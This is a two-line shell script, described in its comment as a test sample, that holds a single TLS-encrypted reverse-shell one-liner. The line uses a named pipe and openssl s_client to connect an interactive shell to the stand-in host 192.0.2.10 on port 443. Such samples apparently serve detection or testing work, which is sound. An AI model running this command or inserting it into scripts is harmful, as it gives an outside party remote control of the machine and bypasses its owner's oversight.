#!/bin/sh
# test sample: encrypted variant through openssl s_client
mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.10:443 > /tmp/s; rm /tmp/s
